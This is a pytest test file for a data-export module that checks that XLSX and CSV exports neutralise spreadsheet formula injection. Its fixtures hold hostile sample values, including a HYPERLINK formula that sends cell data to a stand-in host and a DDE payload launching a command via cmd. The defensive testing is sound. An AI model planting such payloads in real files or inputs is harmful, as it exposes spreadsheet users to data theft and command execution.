"""Exports must not attack their readers: a source label, category or region name starting with `=` stays text in
XLSX and cannot start a formula in CSV (OWASP CSV injection), while numbers (also negative) stay numbers."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook

from etl.report import Report
from petakesos.export import export_table
from petakesos.export.safe import csv_bytes, neutralise
from petakesos.export.table import notes_frame, view_frame
from petakesos.store import Store
from tests.test_export import add_indicators

ATTACK = '=HYPERLINK("http://contoh.invalid/?d="&Data!D6,"klik")'


@pytest.fixture(scope="module")
def hostile_store(sample_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Store:
    db = tmp_path_factory.mktemp("inject") / "s.duckdb"
    shutil.copyfile(sample_store, db)
    add_indicators(db, contoh=False)
    with duckdb.connect(str(db)) as con:
        con.execute("UPDATE uji_indikator SET sumber = ?", [ATTACK])
        con.execute("UPDATE indikator_definisi SET nama = '@SUM(1+1)*cmd' WHERE indikator = 'pmks:LUT'")
        for table in ("batas", "kode_wilayah"):
            con.execute(f"UPDATE {table} SET nama = '+cmd|'' /C calc''!A0' WHERE kode = '34.01'")
    return Store(db)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-12", "-12"), ("-12,5", "-12,5"), ("+62", "+62"), ("Kota Yogyakarta", "Kota Yogyakarta"),
    (-5, -5), (-2.5, -2.5), ("", ""), (None, None),
])
def test_neutralise(value, expected) -> None:
    assert neutralise(value) == expected


def test_xlsx_export_writes_every_text_cell_as_text(hostile_store: Store) -> None:
    wb = load_workbook(io.BytesIO(export_table(hostile_store, "34", 2025, "xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(ATTACK in t for t in texts) and "+cmd|' /C calc'!A0" in texts  # shown as typed, never run
    assert any(isinstance(c.value, int | float) for c in cells)  # numbers stay numbers


def test_csv_exports_cannot_start_a_formula(hostile_store: Store, tmp_path: Path) -> None:
    # The CSVs are written for Excel set to Indonesian (`;` between fields, petakesos.export.safe.csv_bytes).
    frame = pd.read_csv(io.BytesIO(export_table(hostile_store, "34", 2025, "csv")), sep=";", dtype=str,
                        keep_default_na=False, encoding="utf-8-sig")
    _, facts = view_frame(hostile_store, "34", 2025)
    notes = pd.read_csv(io.BytesIO(csv_bytes(notes_frame(facts))), sep=";", dtype=str, keep_default_na=False,
                        encoding="utf-8-sig")
    for table in (frame, notes):
        cells = [str(v) for v in table.to_numpy().ravel()] + list(table.columns)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], table
    assert "'+cmd|' /C calc'!A0" in set(frame["Nama wilayah"])
    assert any(c.startswith("'" + ATTACK) for c in notes.to_numpy().ravel())
    report = Report()
    report.error("uji", "x", nama="=1+2")
    report.to_csv(str(tmp_path / "r.csv"))
    assert "'=1+2" in (tmp_path / "r.csv").read_text()
